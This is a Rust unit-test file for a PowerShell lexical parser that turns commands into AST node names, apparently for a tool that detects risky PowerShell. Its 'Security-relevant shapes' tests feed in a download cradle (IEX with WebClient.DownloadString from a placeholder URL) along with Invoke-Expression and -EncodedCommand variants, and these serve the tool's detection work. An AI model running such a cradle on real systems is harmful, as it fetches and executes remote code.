// Copyright 2025 Eric Jingryd (tidynest@proton.me)
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

use super::super::*;

fn parse(command: &str) -> Vec<String> {
    LexicalParser::new()
        .parse(command)
        .unwrap_or_else(|e| panic!("'{}' should parse: {}", command, e))
}

fn count(nodes: &[String], tag: &str) -> usize {
    nodes.iter().filter(|n| n.as_str() == tag).count()
}

fn assert_syntax_error(command: &str) {
    assert!(
        matches!(LexicalParser::new().parse(command), Err(ParseError::Syntax { .. })),
        "'{}' should be rejected",
        command
    );
}

// ========================================================================
// Exact node lists
// ========================================================================

#[test]
fn test_single_command() {
    assert_eq!(
        parse("Get-Process"),
        vec![
            "ScriptBlockAst",
            "NamedBlockAst",
            "PipelineAst",
            "CommandAst",
            "StringConstantExpressionAst",
        ]
    );
}

#[test]
fn test_command_with_named_parameter() {
    assert_eq!(
        parse("Get-Service -Name bits"),
        vec![
            "ScriptBlockAst",
            "NamedBlockAst",
            "PipelineAst",
            "CommandAst",
            "StringConstantExpressionAst",
            "CommandParameterAst",
            "StringConstantExpressionAst",
        ]
    );
}

#[test]
fn test_method_invocation_on_variable() {
    assert_eq!(
        parse("$wc.DownloadString($url)"),
        vec![
            "ScriptBlockAst",
            "NamedBlockAst",
            "PipelineAst",
            "CommandExpressionAst",
            "InvokeMemberExpressionAst",
            "VariableExpressionAst",
            "StringConstantExpressionAst",
            "VariableExpressionAst",
        ]
    );
}

#[test]
fn test_assignment_of_constant() {
    assert_eq!(
        parse("$x = 5"),
        vec![
            "ScriptBlockAst",
            "NamedBlockAst",
            "AssignmentStatementAst",
            "VariableExpressionAst",
            "CommandExpressionAst",
            "ConstantExpressionAst",
        ]
    );
}

// ========================================================================
// Security-relevant shapes
// ========================================================================

#[test]
fn test_download_cradle() {
    let nodes = parse("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')");

    assert_eq!(count(&nodes, "InvokeExpressionAst"), 1);
    assert_eq!(count(&nodes, "InvokeMemberExpressionAst"), 1);
    assert_eq!(count(&nodes, "ParenExpressionAst"), 1);
    assert_eq!(count(&nodes, "CommandAst"), 2);
}

#[test]
fn test_invoke_expression_alias_is_case_insensitive() {
    for command in ["Invoke-Expression $code", "iex $code", "INVOKE-EXPRESSION 'x'", "& iex 'x'"] {
        assert_eq!(
            count(&parse(command), "InvokeExpressionAst"),
            1,
            "'{}' should be flagged as Invoke-Expression",
            command
        );
    }
    assert_eq!(count(&parse("Invoke-Command { 1 }"), "InvokeExpressionAst"), 0);
}

#[test]
fn test_encoded_command_parameter() {
    for command in [
        "powershell -EncodedCommand ZQBjAGgAbwA=",
        "pwsh -enc ZQBjAGgAbwA=",
        "powershell.exe -e ZQBjAGgAbwA=",
        "PowerShell -ec ZQBjAGgAbwA=",
        "Start-Job -EncodedCommand abc",
    ] {
        assert_eq!(
            count(&parse(command), "EncodedCommand"),
            1,
            "'{}' should carry an encoded command",
            command
        );
    }

    // Abbreviations only count on PowerShell hosts
    assert_eq!(count(&parse("Get-Thing -e x"), "EncodedCommand"), 0);
    assert_eq!(count(&parse("pwsh -ExecutionPolicy RemoteSigned"), "EncodedCommand"), 0);
}

#[test]
fn test_static_member_chain() {
    let nodes = parse("[System.Text.Encoding]::UTF8.GetString($bytes)");

    assert_eq!(count(&nodes, "TypeExpressionAst"), 1);
    assert_eq!(count(&nodes, "MemberExpressionAst"), 1);
    assert_eq!(count(&nodes, "InvokeMemberExpressionAst"), 1);
}

// ========================================================================
// General grammar coverage
// ========================================================================

#[test]
fn test_pipeline_with_script_block_filter() {
    let nodes = parse("Get-ChildItem | Where-Object { $_.Length -gt 100 } | Sort-Object Length");

    assert_eq!(count(&nodes, "CommandAst"), 3);
    assert_eq!(count(&nodes, "PipelineAst"), 2, "Outer pipeline plus the filter body");
    assert_eq!(count(&nodes, "ScriptBlockExpressionAst"), 1);
    assert_eq!(count(&nodes, "BinaryExpressionAst"), 1);
    assert_eq!(count(&nodes, "MemberExpressionAst"), 1);
}

#[test]
fn test_strings_expandable_or_constant() {
    let expandable = parse("Write-Host \"Hello $name\"");
    assert_eq!(count(&expandable, "ExpandableStringExpressionAst"), 1);

    let constant = parse("Write-Host \"Hello `$name\"");
    assert_eq!(count(&constant, "ExpandableStringExpressionAst"), 0);
    assert_eq!(count(&constant, "StringConstantExpressionAst"), 2);

    let here = parse("@\"\nHi $user\n\"@");
    assert_eq!(count(&here, "ExpandableStringExpressionAst"), 1);
}

#[test]
fn test_keyword_statements() {
    let nodes = parse("if ($x -eq 1) { 'one' } elseif ($x -eq 2) { 'two' } else { 'other' }");
    assert_eq!(count(&nodes, "IfStatementAst"), 1);
    assert_eq!(count(&nodes, "StatementBlockAst"), 3);

    let nodes = parse("foreach ($i in 1..3) { Write-Output $i }");
    assert_eq!(count(&nodes, "ForEachStatementAst"), 1);
    assert_eq!(count(&nodes, "BinaryExpressionAst"), 1);

    let nodes = parse("try { Get-Item x } catch [System.IO.IOException] { Write-Warning $_ } finally { 'done' }");
    assert_eq!(count(&nodes, "TryStatementAst"), 1);
    assert_eq!(count(&nodes, "CatchClauseAst"), 1);
    assert_eq!(count(&nodes, "TypeConstraintAst"), 1);

    let nodes = parse("while ($true) { break }");
    assert_eq!(count(&nodes, "WhileStatementAst"), 1);
    assert_eq!(count(&nodes, "BreakStatementAst"), 1);

    let nodes = parse("do { $i++ } until ($i -ge 3)");
    assert_eq!(count(&nodes, "DoUntilStatementAst"), 1);
}

#[test]
fn test_function_definition() {
    let nodes = parse("function Get-Double($n) { return $n * 2 }\nGet-Double 4");

    assert_eq!(count(&nodes, "FunctionDefinitionAst"), 1);
    assert_eq!(count(&nodes, "ReturnStatementAst"), 1);
    assert_eq!(count(&nodes, "BinaryExpressionAst"), 1);
    assert_eq!(count(&nodes, "CommandAst"), 1);
}

#[test]
fn test_hashtable_array_and_cast() {
    let nodes = parse("$h = @{ Name = 'x'; Count = 2 }");
    assert_eq!(count(&nodes, "HashtableAst"), 1);

    let nodes = parse("$list = @(1, 2, 3)");
    assert_eq!(count(&nodes, "ArrayExpressionAst"), 1);
    assert_eq!(count(&nodes, "ArrayLiteralAst"), 1);

    let nodes = parse("[int]$x + 1");
    assert_eq!(count(&nodes, "ConvertExpressionAst"), 1);
    assert_eq!(count(&nodes, "BinaryExpressionAst"), 1);
}

#[test]
fn test_redirections_and_call_operator() {
    let nodes = parse("Get-Process 2>&1 > out.txt");
    assert_eq!(count(&nodes, "MergingRedirectionAst"), 1);
    assert_eq!(count(&nodes, "FileRedirectionAst"), 1);

    let nodes = parse("& 'C:\\Tools\\app.exe' -Verbose");
    assert_eq!(count(&nodes, "CommandAst"), 1);
    assert_eq!(count(&nodes, "CommandParameterAst"), 1);
}

#[test]
fn test_statements_comments_and_continuations() {
    let nodes = parse("Get-Process # list\n<# block #> Get-Service; $a = 1");
    assert_eq!(count(&nodes, "CommandAst"), 2);
    assert_eq!(count(&nodes, "AssignmentStatementAst"), 1);

    let nodes = parse("Get-ChildItem `\n    -Recurse");
    assert_eq!(count(&nodes, "CommandAst"), 1);
    assert_eq!(count(&nodes, "CommandParameterAst"), 1);
}

// ========================================================================
// Errors
// ========================================================================

#[test]
fn test_empty_script_is_rejected() {
    assert_syntax_error("");
    assert_syntax_error("   ");
    assert_syntax_error("\n;\n");
    assert_syntax_error("# only a comment");
}

#[test]
fn test_unterminated_and_unbalanced_input_is_rejected() {
    for command in [
        "Write-Host 'unterminated",
        "Get-Process (",
        "(Get-Process",
        "{ Get-Process",
        "Get-Process }",
        "$a[0",
        "<# never closed",
        "Get-Process |",
        "'a' 'b'",
        "1 +",
        "$x = ",
        "try { 1 }",
        "@{ Name 'x' }",
    ] {
        assert_syntax_error(command);
    }
}

#[test]
fn test_error_offset_points_at_problem() {
    let err = LexicalParser::new().parse("Write-Host 'oops").unwrap_err();
    assert!(
        matches!(err, ParseError::Syntax { offset: 11, .. }),
        "Unexpected error: {:?}",
        err
    );
}

#[test]
fn test_excessive_nesting_is_rejected() {
    let deep = format!("{}1{}", "(".repeat(300), ")".repeat(300));
    assert_syntax_error(&deep);

    let shallow = format!("{}1{}", "(".repeat(20), ")".repeat(20));
    assert_eq!(count(&parse(&shallow), "ParenExpressionAst"), 20);
}

#[test]
fn test_parser_name() {
    assert_eq!(LexicalParser::new().name(), "lexical");
}
